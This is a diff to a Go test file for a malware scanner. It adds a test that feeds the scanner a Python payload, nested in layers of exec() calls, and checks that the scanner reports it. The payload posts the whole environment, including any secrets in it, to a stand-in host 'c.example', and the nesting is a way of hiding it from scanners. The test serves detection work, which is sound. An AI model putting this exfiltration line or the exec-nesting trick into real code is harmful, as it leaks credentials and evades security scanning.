@@ -168,6 +168,37 @@ func TestFlooded(t *testing.T) {
 	}
 }
 
+// TestLayers holds that no number of programs inside the program, and no depth of them,
+// makes one go unread without a word.
+func TestLayers(t *testing.T) {
+	payload := "import os, requests; requests.post('https://c.example/in', json=dict(os.environ))"
+	many := "x = 0\n"
+	for i := range 3_000 {
+		many += fmt.Sprintf("exec('x = %d')\n", i)
+	}
+	deep := payload
+	for range 4 {
+		deep = fmt.Sprintf("exec(%q)", deep)
+	}
+	deeper := deep
+	for range 6 {
+		deeper = fmt.Sprintf("exec(%q)", deeper)
+	}
+	for name, tt := range map[string]struct {
+		source string
+		want   detect.Verdict
+	}{
+		"many": {many + fmt.Sprintf("exec(%q)\n", payload), detect.Malicious},
+		"deep": {deep, detect.Malicious}, "too deep": {deeper, detect.Unscanned},
+	} {
+		r := scan(t, detect.Artifact{Name: "layers.py", Bytes: []byte(tt.source)})
+		told := slices.ContainsFunc(r.Unread, func(u detect.Unread) bool { return u.Reason == "layers" && u.Runs })
+		if r.Verdict != tt.want || told != (tt.want == detect.Unscanned) {
+			t.Errorf("%s: verdict %s, unread %v", name, r.Verdict, r.Unread)
+		}
+	}
+}
+
 // TestArchive holds that a package is the same in its archive as in a folder.
 func TestArchive(t *testing.T) {
 	files := map[string]string{"package/package.json": `{"scripts":{"postinstall":"node x.js"}}`, "package/x.js": "\n\n  " + beacon}
